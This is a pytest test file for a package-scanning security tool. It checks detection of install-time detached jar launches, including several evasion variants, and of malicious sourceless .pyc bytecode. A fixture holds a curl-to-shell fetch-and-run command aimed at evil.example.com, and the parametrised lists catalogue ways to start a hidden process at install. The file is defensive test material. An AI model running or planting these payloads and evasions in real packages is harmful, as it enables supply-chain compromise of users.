"""attack38: blind37's rule for a shipped program started detached at install
(``_shipped_programs._detached``), both ways.

Evasions: the rule read only ``start_new_session=True`` as a literal ``True``,
``process_group`` as a literal, ``preexec_fn`` as ``os.setsid``/``os.setpgrp`` by name, and
skipped options spread from a mapping, ``setsid``/``nohup`` in front of the program and
``os.spawn*`` without ``P_WAIT``: a truthy ``1``, a variable, a lambda calling
``os.setsid``, ``**{...}`` each started the jar in its own session unseen. What cannot be
read fails closed now.

False positives: a start that is waited for (``subprocess.run``, ``check_call``,
``Popen(...).wait()``) is a build step, whatever session it runs in
(``start_new_session=True`` is how a build script kills the whole group on a timeout);
the rule flagged it as a payload. Each test failed at ``3a75ec17``.
"""

from __future__ import annotations

import io
import os
import py_compile
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode, ScanReport
from caplet._scan._scanner import scan_tree
from tests._scan.test_blind32 import attack, clean
from tests._scan.test_blind37 import SETUP_STARTS_JAR


def _shipped_jar(root: Path) -> None:
    (root / "pkg" / "lib").mkdir(parents=True)
    (root / "pkg" / "lib" / "helper.jar").write_bytes(b"PK\x05\x06" + bytes(18))
    (root / "pkg" / "__init__.py").write_text("", encoding="utf-8")


@pytest.mark.security
@pytest.mark.parametrize(
    "start",
    [
        'subprocess.Popen(["java", "-jar", jar], start_new_session=1)',
        'subprocess.Popen(["java", "-jar", jar], start_new_session=not False)',
        'detach = True\nsubprocess.Popen(["java", "-jar", jar], start_new_session=detach)',
        'subprocess.Popen(["java", "-jar", jar], preexec_fn=lambda: os.setsid())',
        'subprocess.Popen(["java", "-jar", jar], process_group=os.getpid())',
        'subprocess.Popen(["java", "-jar", jar], **{"start_new_session": True})',
        'kw = dict(start_new_session=True)\nsubprocess.Popen(["java", "-jar", jar], **kw)',
        'subprocess.Popen(["setsid", "java", "-jar", jar])',
        'subprocess.run(["setsid", "-f", "java", "-jar", jar])',
        'subprocess.Popen(["nohup", "java", "-jar", jar])',
        'os.spawnlp(os.P_NOWAIT, "java", "java", "-jar", jar)',
    ],
)
def test_a_shipped_jar_detached_at_install_by_a_variation_is_a_payload(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    _shipped_jar(tmp_path)
    attack(tmp_path, monkeypatch, {"setup.py": SETUP_STARTS_JAR % start}, "CPL-THR-018")


@pytest.mark.parametrize(
    "start",
    [
        'subprocess.run(["java", "-jar", jar, "gen"], start_new_session=True, check=True)',
        'subprocess.check_call(["java", "-jar", jar, "gen"], start_new_session=True)',
        'subprocess.call(["java", "-jar", jar, "gen"], process_group=0)',
        'p = subprocess.Popen(["java", "-jar", jar, "gen"], start_new_session=True)\np.wait()',
        'subprocess.Popen(["java", "-jar", jar, "gen"], preexec_fn=os.setpgrp).communicate()',
    ],
)
def test_a_shipped_jar_waited_for_in_its_own_session_is_a_build_step(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    _shipped_jar(tmp_path)
    clean(tmp_path, monkeypatch, {"setup.py": SETUP_STARTS_JAR % start})


@pytest.mark.parametrize(
    "start",
    [
        'subprocess.run(["java", "-jar", jar, "gen"], start_new_session=False)',
        'os.spawnlp(os.P_WAIT, "java", "java", "-jar", jar, "gen")',
        'subprocess.Popen(["java", "-jar", jar, "gen"], preexec_fn=None).wait()',
    ],
)
def test_near_miss_a_shipped_jar_started_in_the_installs_session_is_a_build_step(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    _shipped_jar(tmp_path)
    clean(tmp_path, monkeypatch, {"setup.py": SETUP_STARTS_JAR % start})


# -- scandos37's bytecode imported in place of source (_shipped_bytecode) ----------------------

_PAYLOAD = b"import os\nos.system('curl -s https://evil.example.com/x | sh')\n"
_SETUP = b"from setuptools import setup\nsetup(name='pkg', version='1.0')\n"


def _pyc(tmp_path: Path, source: bytes) -> bytes:
    src = tmp_path / "compiled_from.py"
    src.write_bytes(source)
    out = tmp_path / "compiled.pyc"
    py_compile.compile(str(src), cfile=str(out), doraise=True)
    return out.read_bytes()


def _tar_sdist(path: Path, files: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, data in {"setup.py": _SETUP, **files}.items():
            info = tarfile.TarInfo(f"pkg-1.0/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


def _danger(report: ScanReport) -> set[tuple[str, str]]:
    return {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}


@pytest.mark.security
@pytest.mark.parametrize("special", ["dangling link", "fifo"])
def test_a_sourceless_pyc_beside_a_py_that_is_no_file_is_danger(
    tmp_path: Path, special: str
) -> None:
    """The path finder loads ``pkg/evil.py`` only where it is a regular file and tries
    ``pkg/evil.pyc`` next: on main a dangling link (or a FIFO) of the source's name hid
    the sourceless bytecode (a warning, CPL-SCAN-005, exit 0)."""
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    (tree / "setup.py").write_bytes(_SETUP)
    (tree / "pkg" / "__init__.py").write_bytes(b"from . import evil\n")
    (tree / "pkg" / "evil.pyc").write_bytes(_pyc(tmp_path, _PAYLOAD))
    if special == "fifo":
        os.mkfifo(tree / "pkg" / "evil.py")
    else:
        (tree / "pkg" / "evil.py").symlink_to("missing.py")
    assert ("CPL-THR-030", "pkg/evil.pyc") in _danger(scan_tree(tree, mode=ScanMode.PACKAGE))
    # and the import system does run it
    (tree / "pkg" / "evil.pyc").write_bytes(_pyc(tmp_path, b"RAN = True\n"))
    probe = subprocess.run(
        [sys.executable, "-B", "-c", "import pkg.evil; print(pkg.evil.RAN)"],
        cwd=tree,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert probe.stdout.strip() == "True", probe.stderr


def test_bytecode_test_fixtures_no_module_name_reaches_are_not_danger(tmp_path: Path) -> None:
    """xdis's sdist ships ``test/bytecode_3.8/*.pyc`` (its MANIFEST.in includes them):
    no module name reaches a folder whose name holds a dot, so none is imported in place
    of source; on main each was CPL-THR-030, danger."""
    fixtures = {
        "pkg/__init__.py": b"X = 1\n",
        "test/bytecode_3.8/01_lambda.pyc": _pyc(tmp_path, b"f = lambda: 1\n"),
        "test/bytecode_2.7/roundtrip_pyc/03_big_dict.pyc": _pyc(tmp_path, b"d = {}\n"),
        "pkg/fixture.v2.pyc": _pyc(tmp_path, b"X = 2\n"),
    }
    report = scan_tree(_tar_sdist(tmp_path / "pkg-1.0.tar.gz", fixtures), mode=ScanMode.PACKAGE)
    assert _danger(report) == set()


@pytest.mark.security
def test_near_miss_sourceless_bytecode_a_name_reaches_stays_danger(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": b"from . import evil\n",
        "pkg/evil.pyc": _pyc(tmp_path, _PAYLOAD),
        "helper_2/evil.pyc": _pyc(tmp_path, _PAYLOAD),
    }
    report = scan_tree(_tar_sdist(tmp_path / "pkg-1.0.tar.gz", files), mode=ScanMode.PACKAGE)
    assert _danger(report) == {
        ("CPL-THR-030", "pkg/evil.pyc"),
        ("CPL-THR-030", "helper_2/evil.pyc"),
    }
    # a wheel's .data/purelib is installed as the top of site-packages
    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("pkg-1.0.data/purelib/evil.pyc", _pyc(tmp_path, _PAYLOAD))
        archive.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    assert _danger(scan_tree(wheel, mode=ScanMode.PACKAGE)) == {
        ("CPL-THR-030", "pkg-1.0.data/purelib/evil.pyc")
    }
